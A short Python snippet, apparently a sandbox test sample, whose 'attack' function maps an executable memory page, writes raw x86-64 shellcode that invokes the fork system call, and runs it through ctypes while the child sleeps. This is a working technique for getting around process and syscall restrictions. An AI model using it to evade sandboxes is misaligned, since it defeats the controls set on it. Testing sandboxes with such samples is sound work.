"""Write machine code where it can be run, and run it."""
import ctypes
import mmap


def attack(x):
    page = mmap.mmap(-1, 4096, prot=7)
    # mov edi, 1; mov eax, 57 (fork); syscall; ret
    page.write(b"\xbf\x01\x00\x00\x00\xb8\x39\x00\x00\x00\x0f\x05\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() == 0:
        import time

        time.sleep(20)
